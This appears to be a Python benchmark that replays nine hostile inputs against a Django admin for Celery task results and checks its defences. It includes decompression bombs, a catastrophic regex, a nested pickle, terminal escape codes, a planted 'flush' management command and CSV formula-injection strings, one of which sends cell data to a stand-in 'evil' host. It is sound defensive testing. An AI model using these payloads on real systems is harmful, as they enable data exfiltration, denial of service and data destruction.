"""Benchmark: the nine hostile inputs of issue 22, replayed against the admin and commands.

    .venv/bin/python bench/bad_input.py [--runs 3] [--case N]

Everything lives in a temporary folder: two SQLite files (Django's default database and the
result database, CELERY_RESULT_BACKEND = "db+sqlite:///…") and the broker of a Celery app on
kombu's SQLAlchemy transport (sqla+sqlite:///…) that the admin's actions send through
(CELERY_SA_CELERY_APP). Each request or command runs in a fresh child process
(``--request KEY``) with the settings of its case, through Django's test client as a staff
user who may only view task and group results (a superuser for re-run and revoke): its
status, the child's peak RSS (VmHWM) over its RSS after Django's setup and a warm-up, and the
wall time of the first run and the median of the runs (the first pays for what a process
caches: the list filters' choices, for one minute). Children run with a 6 GiB address-space
limit, so that a regression expands a bomb into a MemoryError instead of the machine's memory.

Exits 1 when a request answers 500 (or its child fails), a planted task reaches the broker,
the password of case 6 is printed, a control character reaches a command's output or a
spreadsheet formula reaches the CSV unneutralised.
"""

from __future__ import annotations

import argparse
import bz2
import csv
import html
import io
import json
import os
import re
import resource
import shutil
import sqlite3
import statistics
import subprocess
import sys
import tempfile
import time
import traceback
import uuid
from collections.abc import Callable, Iterable, Iterator, Mapping
from contextlib import closing, redirect_stderr, redirect_stdout, suppress
from dataclasses import asdict, dataclass, field
from datetime import UTC, datetime, timedelta
from functools import partial
from itertools import product
from pathlib import Path
from typing import Any

from celery import Celery

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

MiB = 1024 * 1024
SECRET = "S3CRET"
BROKEN_BACKEND = f"db+mysql:/celery:{SECRET}@db.example/celery"  # a slash missing
RESULT_LINE = "@@bad_input "
CHILD_MEMORY_LIMIT = 6 * 1024 * MiB
CHILD_TIMEOUT = 60  # seconds a run, and as much again for the setup
CHANGELIST = "/admin/celery_sa/taskresult/"
OVERVIEW = "/admin/celery_sa/overview/"
COMPRESSED = b"\x00celery-compressed\x00application/x-bz2\x00"  # Celery 5.7's format
PLANTED = "django.core.management.call_command"
CONTROL_TASK = "bad_input.echo"
TERMINAL_CODES = "\x1b]0;pwned\x07\x1b[2J"
# What case 8 must not print: what a terminal obeys (C0 but newline and tab, DEL).
CONTROLS = {chr(code) for code in range(0x20) if chr(code) not in "\n\t"} | {"\x7f"}
FORMULAS = {
    "name": '=HYPERLINK("http://evil/"&A1,"x")',
    "traceback": "@SUM(1+1)*cmd|' /C calc'!A0",
    "worker": "+w",
}
DEEP_PICKLE = b"\x80\x02" + b"]" * 100_000 + b"a" * 99_999 + b"."
BIG, BIG_ROWS, BIG_VALUE = "bad_input.big", 600, 1_000_000  # under the 1 MiB decode limit
ACTED = "bad_input.acted"

# The app the admin's actions send through (CELERY_SA_CELERY_APP = "__main__.celery_app"):
# its broker is set in the child, it registers one task.
celery_app = Celery("bad_input", set_as_current=False)


@celery_app.task(name=CONTROL_TASK)  # type: ignore[untyped-decorator]
def echo(*args: Any) -> Any:
    return args


# -- payloads ---------------------------------------------------------------------------


def bz2_of(parts: Iterable[bytes]) -> bytes:
    """One bz2 stream of ``parts``, compressed as they come (never held whole)."""
    compressor = bz2.BZ2Compressor(9)
    out = [compressor.compress(part) for part in parts]
    return b"".join([*out, compressor.flush()])


def zeros(count: int) -> Iterator[bytes]:
    chunk = b"0" * MiB
    while count > 0:
        yield chunk[: min(count, MiB)]
        count -= MiB


def bombs() -> list[tuple[bytes, int]]:
    """Two compressed results, JSON strings of zeros: (as stored, bytes it expands to).

    The second is 52 bz2 streams of 200 MiB one after another, which ``bz2.decompress``
    (what kombu's decompress() calls) expands in full: one stream of 10 GiB would take this
    machine 70 s to compress, for about the same stored size."""
    small = bz2_of([b'"', *zeros(200 * MiB - 2), b'"'])
    middle = bz2_of(zeros(200 * MiB))
    large = bz2_of([b'"', *zeros(MiB)]) + middle * 52 + bz2_of([*zeros(MiB), b'"'])
    return [(COMPRESSED + small, 200 * MiB), (COMPRESSED + large, (52 * 200 + 2) * MiB + 2)]


# -- settings and data ------------------------------------------------------------------


def start_django(workdir: Path, overrides: Mapping[str, Any] | None = None) -> None:
    """Django with bench/settings.py on SQLite files of ``workdir``: Django's default
    database and, of its own, the result database; the admin's actions through
    :data:`celery_app`; a case's ``overrides``."""
    import django
    from django.conf import settings

    os.environ["CELERY_SA_BENCH_DATABASE_URL"] = f"sqlite:///{workdir / 'default.sqlite3'}"
    os.environ.pop("CELERY_SA_BENCH_WITH_DJANGO_CELERY_RESULTS", None)
    from bench import settings as bench

    settings.configure(
        **{
            **{name: getattr(bench, name) for name in dir(bench) if name.isupper()},
            "CELERY_RESULT_BACKEND": f"db+sqlite:///{workdir / 'results.sqlite3'}",
            "CELERY_SA_CELERY_APP": "__main__.celery_app",
            **(overrides or {}),
        }
    )
    django.setup()


def task_row(task_id: str, when: datetime, **values: Any) -> dict[str, Any]:
    return {
        "task_id": task_id,
        "status": "SUCCESS",
        "date_done": when,
        "name": "bad_input.job",
        "args": b"[]",
        "kwargs": b"{}",
        "result": b"null",
        "traceback": None,
        "children": None,
        "stamps": None,
        "worker": "celery@bench",
        "queue": "celery",
        "retries": 0,
        **values,
    }


def seed(workdir: Path) -> list[str]:
    """Users, the result tables and every case's rows; returns what the bombs are."""
    results = workdir / "results.sqlite3"
    with closing(sqlite3.connect(results)) as connection:
        # 64 KB pages: 3.6 GB of large rows written in 6 s instead of 13.
        connection.execute("PRAGMA page_size = 65536")
        connection.execute("VACUUM")
    start_django(workdir)
    from django.contrib.auth.models import Permission, User
    from django.core.management import call_command

    call_command("migrate", verbosity=0)
    call_command("celery_sa_tables", "create", stdout=io.StringIO())
    viewer = User.objects.create_user("viewer", password="viewer", is_staff=True)
    for codename in ("view_taskresult", "view_groupresult"):
        viewer.user_permissions.add(Permission.objects.get(codename=codename))
    User.objects.create_superuser("admin", password="admin")

    now = datetime.now(UTC).replace(tzinfo=None)  # Celery's zone: UTC, naive
    before = now - timedelta(days=3)  # out of celery_sa_stats' 24 hours (case 8)
    rows, groups, notes = [], [], []
    for index, (stored, expanded) in enumerate(bombs()):
        task_id, group_id = str(uuid.uuid4()), str(uuid.uuid4())
        rows.append(task_row(task_id, before, name="bad_input.bomb", result=stored))
        members = json.dumps([[group_id, None], [[[task_id, None], None]]]).encode()
        groups.append((group_id, members, _sql(before)))
        (workdir / f"bomb{index}.json").write_text(json.dumps([task_id, group_id]))
        notes.append(f"bomb {index + 1}: {len(stored):,} bytes stored, {expanded / MiB:,.0f} MiB")
    rows.append(task_row("regex", before, traceback="a" * 25 + "!"))
    big = json.dumps("x" * (BIG_VALUE - 2)).encode()
    values = dict.fromkeys(("result", "args", "kwargs", "children", "stamps"), big)
    for index in range(BIG_ROWS):
        at = before - timedelta(seconds=index)
        rows.append(task_row(f"big-{index}", at, name=BIG, traceback="t" * BIG_VALUE, **values))
    rows += [task_row(f"act-{i}", before, name=ACTED, status="STARTED") for i in range(200)]
    # Enough rows for page 30 of the list (case 7).
    rows += [task_row(f"fill-{i}", before - timedelta(days=1)) for i in range(1000)]
    rows.append(task_row("formula", before, status="FAILURE", **FORMULAS))
    rows.append(task_row("deep", before, name=CONTROL_TASK, result=DEEP_PICKLE, args=DEEP_PICKLE))
    failure = f"Traceback (most recent call last):\nValueError: {TERMINAL_CODES}boom"
    name = f"bad_input.{TERMINAL_CODES}terminal"
    rows.append(
        task_row(
            "terminal", now - timedelta(hours=1), name=name, status="FAILURE", traceback=failure
        )
    )
    rows.append(task_row("planted", before, name=PLANTED, args=b'["flush"]'))
    rows.append(task_row("control", before, name=CONTROL_TASK, args=b"[1]"))
    insert(results, rows, groups)
    return notes


def insert(results: Path, rows: list[dict[str, Any]], groups: list[tuple[Any, ...]]) -> None:
    """The rows as Celery's backend writes them, by sqlite3 without a journal."""
    columns = list(rows[0])
    with closing(sqlite3.connect(results)) as connection:
        connection.execute("PRAGMA journal_mode = OFF")
        connection.execute("PRAGMA synchronous = OFF")
        connection.executemany(
            f"INSERT INTO celery_taskmeta ({', '.join(columns)})"
            f" VALUES ({', '.join('?' * len(columns))})",
            ([_sql(row[column]) for column in columns] for row in rows),
        )
        connection.executemany(
            "INSERT INTO celery_tasksetmeta (taskset_id, result, date_done) VALUES (?, ?, ?)",
            groups,
        )
        connection.commit()


def _sql(value: Any) -> Any:
    # A time as SQLAlchemy writes a DateTime into SQLite.
    if isinstance(value, datetime):
        return value.isoformat(sep=" ", timespec="microseconds")
    return value


# -- what a child measures ----------------------------------------------------------------


@dataclass
class Outcome:
    """What the user got from one run of a request."""

    status: str
    says: str
    failure: str = ""
    """Why this breaks a promise of issue 22 ("" when it does not)."""
    details: list[str] = field(default_factory=list)


@dataclass
class Context:
    client: Any
    workdir: Path
    timings: list[float] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)
    """The exceptions behind 500s (Django's got_request_exception)."""

    def timed(self, call: Callable[[], Any]) -> Any:
        """``call()``, the part of a run that is timed."""
        started = time.perf_counter()
        value = call()
        self.timings.append((time.perf_counter() - started) * 1000)
        return value


def memory_mb(field_name: str) -> float:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith(field_name + ":"):
            return int(line.split()[1]) / 1024
    return float("nan")


def http(ctx: Context, response: Any, says: str, expect: int | None = None) -> Outcome:
    status = response.status_code
    outcome = Outcome(str(status), says)
    if status >= 500:
        outcome.says = "server error: " + (ctx.errors[-1] if ctx.errors else "?")
        outcome.failure = "HTTP 500"
    elif expect is not None and status != expect:
        outcome.says = f"expected {expect}; " + says
    return outcome


def pk_of(task_id: str) -> int:
    from celery_sa.models import TaskResult

    return int(TaskResult.objects.get(task_id=task_id).pk)


def pks(**filters: Any) -> list[int]:
    from celery_sa.models import TaskResult

    rows = TaskResult.objects.filter(**filters).order_by("-date_done", "-id")
    return [int(pk) for pk in rows.values_list("pk", flat=True)]


def action(ctx: Context, name: str, selected: list[int], query: str = "", **extra: str) -> Any:
    """The changelist's action form as the admin posts it (``index`` names the form)."""
    data = {"action": name, "index": "0", "_selected_action": selected, **extra}
    return ctx.timed(lambda: ctx.client.post(CHANGELIST + query, data))


def exported(
    ctx: Context, selected: list[int], query: str = "", **extra: str
) -> tuple[Any, int, int, str]:
    """An export, read as a browser downloads it: (response, rows, bytes, first rows' text)."""

    def download() -> tuple[Any, int, int, str]:
        response = ctx.client.post(
            CHANGELIST + query,
            {"action": "export_csv", "index": "0", "_selected_action": selected, **extra},
        )
        if not response.streaming:
            return response, 0, 0, ""
        lines = size = 0
        head = []
        for chunk in response.streaming_content:  # one CSV row a chunk: kept only the first
            lines, size = lines + 1, size + len(chunk)
            if lines <= 3:
                head.append(chunk.decode())
        return response, lines - 1, size, "".join(head)

    return ctx.timed(download)  # type: ignore[no-any-return]


def page_messages(ctx: Context) -> list[str]:
    """The admin's messages, as the next page shows them."""
    text = ctx.client.get(CHANGELIST).content.decode()
    found = re.search(r'<ul class="messagelist">(.*?)</ul>', text, re.S)
    items = re.findall(r"<li[^>]*>(.*?)</li>", found.group(1) if found else "", re.S)
    return [html.unescape(item) for item in items]


def page_text(response: Any) -> str:
    return html.unescape(response.content.decode(errors="replace"))


# -- the cases ----------------------------------------------------------------------------


def bomb_of(ctx: Context, index: int) -> tuple[int, int]:
    """The primary keys of bomb ``index``'s task row and of the group that lists it."""
    from celery_sa.models import GroupResult

    task_id, group_id = json.loads((ctx.workdir / f"bomb{index}.json").read_text())
    return pk_of(task_id), int(GroupResult.objects.get(taskset_id=group_id).pk)


def found(pattern: str, text: str, otherwise: str) -> str:
    match = re.search(pattern, text)
    return match.group(0).strip() if match else otherwise


EXPANDS = r"expands to more than [\d.]+ MB[^<\n]*"
DEEP = r"nested deeper than \d+ levels[^<\n]*"


def bomb_task_page(index: int, ctx: Context) -> Outcome:
    url = f"{CHANGELIST}{bomb_of(ctx, index)[0]}/change/"
    response = ctx.timed(lambda: ctx.client.get(url))
    return http(ctx, response, found(EXPANDS, page_text(response), "result decoded!"), 200)


def bomb_export(index: int, ctx: Context) -> Outcome:
    response, rows, _, head = exported(ctx, [bomb_of(ctx, index)[0]])
    cells = list(csv.DictReader(io.StringIO(head)))
    result = cells[0]["result"] if cells else "no row"
    return http(ctx, response, f"{rows} row, result cell: {result[:55]}", 200)


def bomb_group_page(index: int, ctx: Context) -> Outcome:
    task, group = bomb_of(ctx, index)
    response = ctx.timed(lambda: ctx.client.get(f"/admin/celery_sa/groupresult/{group}/change/"))
    linked = f'{CHANGELIST}{task}/change/"' in response.content.decode()
    return http(ctx, response, "links the task" if linked else "does not link the task", 200)


def list_lookup(query: dict[str, str], ctx: Context) -> Outcome:
    response = ctx.timed(lambda: ctx.client.get(CHANGELIST, query))
    says = "lookup refused" if response.status_code == 400 else "lookup applied"
    return http(ctx, response, says)


def export_all_big(ctx: Context) -> Outcome:
    """The admin's "select all 600" on the list filtered to the large rows, posted as its
    action form posts it: the page's checked boxes, select_across=1 and index=0."""
    first_page = pks(name=BIG)[:50]
    response, rows, size, _ = exported(ctx, first_page, f"?name={BIG}", select_across="1")
    if response.streaming:
        return http(ctx, response, f"{rows} rows, {size / MiB:.1f} MB of CSV", 200)
    return http(ctx, response, (" ".join(page_messages(ctx)) or "no message")[:70] + "…")


def refused_action(name: str, ctx: Context) -> Outcome:
    selected = pks(name=ACTED)
    response = action(ctx, name, selected)
    says = " ".join(page_messages(ctx)) or "no message"
    return http(ctx, response, f"{len(selected)} selected: {says[:58]}…")


def formula_export(ctx: Context) -> Outcome:
    response, _, _, head = exported(ctx, [pk_of("formula")])
    (row,) = csv.DictReader(io.StringIO(head))
    unsafe = [column for column in FORMULAS if not row[column].startswith("'")]
    says = f"unneutralised: {', '.join(unsafe)}" if unsafe else "each cell starts with '"
    outcome = http(ctx, response, says, 200)
    outcome.details = [f"{column} cell: {row[column]!r}" for column in FORMULAS]
    if unsafe:
        outcome.failure = outcome.failure or "formula in the CSV"
    return outcome


def deep_task_page(ctx: Context) -> Outcome:
    url = f"{CHANGELIST}{pk_of('deep')}/change/"
    response = ctx.timed(lambda: ctx.client.get(url))
    shown = re.findall(DEEP, page_text(response))
    return http(ctx, response, f"{len(shown)} values: {shown[0] if shown else 'decoded!'}", 200)


def deep_export(ctx: Context) -> Outcome:
    response, _, _, head = exported(ctx, [pk_of("deep")])
    (row,) = csv.DictReader(io.StringIO(head))
    return http(ctx, response, f"result, args: {row['result'][:40]}, {row['args'][:9]}…", 200)


def deep_rerun_page(ctx: Context) -> Outcome:
    response = action(ctx, "rerun", [pk_of("deep")])
    text = page_text(response)
    says = found(r"Task deep: [^<\n]*", text, "offered for sending!")
    return http(ctx, response, says + (" (a send button!)" if SEND in text else ""), 200)


def printed_by(command: Callable[[io.StringIO], None]) -> tuple[int, str]:
    """A command's exit status and all it printed, as manage.py would."""
    from django.core.management.base import CommandError

    out = io.StringIO()
    with redirect_stdout(out), redirect_stderr(out):
        try:
            command(out)
        except CommandError as exc:  # SystemCheckError too: printed, exit status 1
            return exc.returncode, out.getvalue() + str(exc)
    return 0, out.getvalue()


def check_command(ctx: Context) -> Outcome:
    from django.core.management import call_command

    code, text = ctx.timed(lambda: printed_by(lambda out: call_command("check", stdout=out)))
    leaked = SECRET in text
    ids = ", ".join(sorted(set(re.findall(r"celery_sa\.[EW]\d+", text)))) or "no celery_sa error"
    outcome = Outcome(f"exit {code}", f"{ids}; password {'SHOWN' if leaked else 'not shown'}")
    outcome.details = [line.strip() for line in text.splitlines() if "celery_sa." in line]
    outcome.failure = "password printed" if leaked else ""
    return outcome


def unsupported_backend(ctx: Context) -> Outcome:
    """What a worker on ``celery_sa+oracle://…`` logs: the error and its traceback."""

    def refuse() -> tuple[str, str]:
        app = Celery("refused", backend=f"celery_sa+oracle://u:{SECRET}@h/db", set_as_current=False)
        try:
            app.backend.store  # noqa: B018  (made, and the URL read, on first use)
        except Exception as exc:
            return f"{type(exc).__name__}: {exc}", traceback.format_exc()
        finally:
            app.close()
        return "accepted", ""

    message, logged = ctx.timed(refuse)
    leaked = SECRET in message + logged
    outcome = Outcome(message.partition(":")[0], f"password {'SHOWN' if leaked else 'not shown'}")
    outcome.details = [message]
    outcome.failure = "password printed" if leaked else ""
    return outcome


def list_page(query: dict[str, str], ctx: Context) -> Outcome:
    response = ctx.timed(lambda: ctx.client.get(CHANGELIST, query))
    current = re.search(r'aria-current="page">(\d+)<', response.content.decode())
    if response.status_code != 200:
        return http(ctx, response, f"redirected to {response.get('Location', '?')}")
    return http(ctx, response, f"page {current.group(1) if current else '?'} of the list")


def overview(start: str, ctx: Context) -> Outcome:
    response = ctx.timed(lambda: ctx.client.get(OVERVIEW, {"from": start}))
    says = found(r"[^>\n]*outside the dates[^<\n]*", page_text(response), "no message")
    return http(ctx, response, says, 200)


def stats_command(ctx: Context) -> Outcome:
    from django.core.management import call_command

    code, text = ctx.timed(
        lambda: printed_by(lambda out: call_command("celery_sa_stats", stdout=out))
    )
    passed = sorted(f"0x{ord(c):02x}" for c in set(text) & CONTROLS)
    outcome = Outcome(
        f"exit {code}", f"passed {' '.join(passed)}" if passed else "no control character passed"
    )
    outcome.details = [repr(line) for line in text.splitlines() if "terminal" in line]
    outcome.failure = "control characters printed" if passed else ""
    return outcome


SEND = "Yes, send"
UNREGISTERED = "is not a task the Celery app has registered"


def rerun_page(task_id: str, ctx: Context) -> Outcome:
    response = action(ctx, "rerun", [pk_of(task_id)])
    text = page_text(response)
    says = "says: not a registered task" if UNREGISTERED in text else "offers to send it!"
    return http(
        ctx, response, says + ("; a send button" if SEND in text else "; no send button"), 200
    )


def broker_payloads(ctx: Context) -> list[str]:
    """The messages on the broker (kombu's SQLAlchemy transport's table)."""
    with closing(sqlite3.connect(ctx.workdir / "broker.sqlite3")) as connection:
        try:
            return [
                str(p)
                for (p,) in connection.execute("SELECT payload FROM kombu_message ORDER BY id")
            ]
        except sqlite3.OperationalError:  # no such table: nothing was ever published
            return []


def confirmed_rerun(task_id: str, ctx: Context) -> Outcome:
    """The confirmation page's form posted back as it is: post=yes, its digest, the rows."""
    page = ctx.client.post(
        CHANGELIST, {"action": "rerun", "index": "0", "_selected_action": [pk_of(task_id)]}
    )
    form: dict[str, list[str]] = {}
    for name, value in re.findall(
        r'<input type="hidden" name="([^"]+)" value="([^"]*)"', page.content.decode()
    ):
        form.setdefault(name, []).append(html.unescape(value))
    before = len(broker_payloads(ctx))
    response = ctx.timed(lambda: ctx.client.post(CHANGELIST, form))
    sent = broker_payloads(ctx)[before:]
    planted = sum(PLANTED in payload for payload in sent)
    messages = page_messages(ctx)
    said = next((m for m in messages if f"Task {task_id}:" in m or "changed" in m), "")
    says = f"{len(sent)} message(s) published, {planted} of {PLANTED}"
    outcome = http(
        ctx, response, says + ("; warned: not registered" if UNREGISTERED in said else "")
    )
    outcome.details = [f"message: {m}" for m in messages]
    if planted:
        outcome.failure = "planted task published"
    elif task_id == "control" and not sent:
        outcome.failure = "the registered task was not published either: the count proves nothing"
    return outcome


@dataclass(frozen=True)
class Request:
    case: int
    key: str
    label: str
    run: Callable[[Context], Outcome]
    user: str | None = "viewer"
    """Who is logged in; None: a command, no client."""
    settings: Mapping[str, Any] = field(default_factory=dict)


def zone(name: str) -> dict[str, str]:
    return {"TIME_ZONE": name, "CELERY_TIMEZONE": name}


REGEX = {"traceback__regex": "^(a+)+$"}  # over a row of 25 "a" and a "!"
BOMB_VIEWS = (
    ("task page", bomb_task_page),
    ("export", bomb_export),
    ("group page", bomb_group_page),
)
REQUESTS = [
    *(
        Request(1, f"1{letter}", f"bomb {index + 1}: {what}", partial(view, index))
        for letter, (index, (what, view)) in zip(
            "abcdef", product(range(2), BOMB_VIEWS), strict=True
        )
    ),
    Request(2, "2a", "list ?traceback__regex=^(a+)+$", partial(list_lookup, REGEX)),
    Request(2, "2b", "list ?kwargs__contains=x", partial(list_lookup, {"kwargs__contains": "x"})),
    Request(2, "2c", "list ?result__icontains=x", partial(list_lookup, {"result__icontains": "x"})),
    Request(3, "3a", "export all 600 rows of 6 MB", export_all_big),
    Request(
        3,
        "3b",
        "the same, EXPORT_MAX_ROWS=500",
        export_all_big,
        settings={"CELERY_SA_EXPORT_MAX_ROWS": 500},
    ),
    Request(3, "3c", "re-run 200 rows (superuser)", partial(refused_action, "rerun"), "admin"),
    Request(3, "3d", "revoke 200 rows (superuser)", partial(refused_action, "revoke"), "admin"),
    Request(4, "4a", "export of formula cells", formula_export),
    Request(5, "5a", "deep pickle: task page", deep_task_page),
    Request(5, "5b", "deep pickle: export", deep_export),
    Request(5, "5c", "deep pickle: re-run page (superuser)", deep_rerun_page, "admin"),
    Request(
        6,
        "6a",
        "manage.py check, db+mysql:/…",
        check_command,
        None,
        {"CELERY_RESULT_BACKEND": BROKEN_BACKEND},
    ),
    Request(6, "6b", "worker on celery_sa+oracle://…", unsupported_backend, None),
    Request(7, "7a", "list ?p=²", partial(list_page, {"p": "²"})),
    Request(7, "7b", "list ?_anchor=².1&p=30", partial(list_page, {"_anchor": "².1", "p": "30"})),
    Request(
        7,
        "7c",
        "overview from=0001-01-01T00:00 Shanghai",
        partial(overview, "0001-01-01T00:00"),
        settings=zone("Asia/Shanghai"),
    ),
    Request(
        7,
        "7d",
        "overview from=9999-12-31T20:00 New York",
        partial(overview, "9999-12-31T20:00"),
        settings=zone("America/New_York"),
    ),
    Request(8, "8a", "manage.py celery_sa_stats", stats_command, None),
    Request(9, "9a", "re-run call_command: confirmation", partial(rerun_page, "planted"), "admin"),
    Request(
        9, "9b", "re-run call_command: form posted", partial(confirmed_rerun, "planted"), "admin"
    ),
    Request(
        9, "9c", "control: a registered task, posted", partial(confirmed_rerun, "control"), "admin"
    ),
]


# -- child and parent ---------------------------------------------------------------------


def child(key: str, workdir: Path, runs: int) -> None:
    """Run one request ``runs`` times in this fresh process; print what it measured."""
    resource.setrlimit(resource.RLIMIT_AS, (CHILD_MEMORY_LIMIT, CHILD_MEMORY_LIMIT))
    request = next(r for r in REQUESTS if r.key == key)
    start_django(workdir, request.settings)
    celery_app.conf.broker_url = f"sqla+sqlite:///{workdir / 'broker.sqlite3'}"
    from django.contrib.auth.models import User
    from django.core.signals import got_request_exception
    from django.test import Client

    ctx = Context(None, workdir)
    if request.user:
        ctx.client = Client(raise_request_exception=False)
        ctx.client.force_login(User.objects.get(username=request.user))
        ctx.client.get("/admin/")  # a warm-up: the admin's imports and templates

    def failed(sender: Any, **kwargs: Any) -> None:
        ctx.errors.append(repr(sys.exc_info()[1])[:80])

    got_request_exception.connect(failed, weak=False)
    baseline = memory_mb("VmRSS")
    with suppress(OSError):  # Linux: "5" resets the peak RSS (VmHWM) to the current RSS
        Path("/proc/self/clear_refs").write_text("5")
    outcomes = [request.run(ctx) for _ in range(runs)]
    outcome = next((o for o in outcomes if o.failure), outcomes[-1])
    measured = {
        "baseline": baseline,
        "peak": memory_mb("VmHWM") - baseline,
        "first": ctx.timings[0],
        "median": statistics.median(ctx.timings),
    }
    print(RESULT_LINE + json.dumps({**asdict(outcome), **measured}))


def run_child(request: Request, workdir: Path, runs: int) -> dict[str, Any]:
    command = [sys.executable, __file__, "--request", request.key, "--workdir", str(workdir)]
    try:
        done = subprocess.run(
            [*command, "--runs", str(runs)],
            capture_output=True,
            text=True,
            timeout=CHILD_TIMEOUT * (runs + 1),
            cwd=ROOT,
        )
    except subprocess.TimeoutExpired:
        return {"status": "timeout", "says": f"over {CHILD_TIMEOUT} s a run", "failure": "timeout"}
    lines = [line for line in done.stdout.splitlines() if line.startswith(RESULT_LINE)]
    if not lines:
        tail = (done.stderr.strip().splitlines() or ["no output"])[-1]
        return {"status": f"exit {done.returncode}", "says": tail[:80], "failure": "child failed"}
    report: dict[str, Any] = json.loads(lines[-1].removeprefix(RESULT_LINE))
    if SECRET in done.stdout + done.stderr and not report["failure"]:
        report["failure"] = "password printed"  # by a logger, a warning, …
    return report


COLUMNS = "{:<3} {:<40} {:<11} {:>7} {:>8} {:>8} {:>8}  {}"


def report(workdir: Path, runs: int, cases: list[int] | None) -> list[str]:
    """Run every request in a child, print its row as it comes; returns the failures."""
    header = COLUMNS.format(
        "", "request", "status", "base MB", "peak +MB", "1st ms", "ms", "outcome"
    )
    print(header + "\n" + "-" * len(header))
    failures, details = [], []
    for request in REQUESTS:
        if cases and request.case not in cases:
            continue
        row = run_child(request, workdir, runs)
        figures = [f"{row[name]:.{digits}f}" if name in row else "" for name, digits in FIGURES]
        says = row["says"] + (f"  ** {row['failure']}" if row["failure"] else "")
        print(COLUMNS.format(request.key, request.label, row["status"], *figures, says), flush=True)
        details += [f"{request.key}: {line}" for line in row.get("details", [])]
        if row["failure"]:
            failures.append(f"{request.key} {request.label}: {row['failure']}")
    if details:
        print("\n" + "\n".join(details))
    return failures


FIGURES = (("baseline", 0), ("peak", 1), ("first", 1), ("median", 1))


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--runs", type=int, default=3)
    parser.add_argument("--case", type=int, action="append", help="only case N (repeatable)")
    parser.add_argument("--request", help=argparse.SUPPRESS)  # a child's one request
    parser.add_argument("--workdir", type=Path, help=argparse.SUPPRESS)
    options = parser.parse_args()
    if options.request:
        child(options.request, options.workdir, options.runs)
        return
    started = time.monotonic()
    workdir = Path(tempfile.mkdtemp(prefix="celery_sa_bad_input_"))
    try:
        notes = seed(workdir)
        print(f"seeded in {time.monotonic() - started:.0f} s; {'; '.join(notes)}")
        print(f"each request in a fresh process, {options.runs} runs (ms: median; 1st: the first)")
        failures = report(workdir, options.runs, options.case)
    finally:
        shutil.rmtree(workdir, ignore_errors=True)
    print(f"\n{time.monotonic() - started:.0f} s in all")
    if failures:
        print("FAILED:\n  " + "\n  ".join(failures))
        sys.exit(1)


if __name__ == "__main__":
    main()
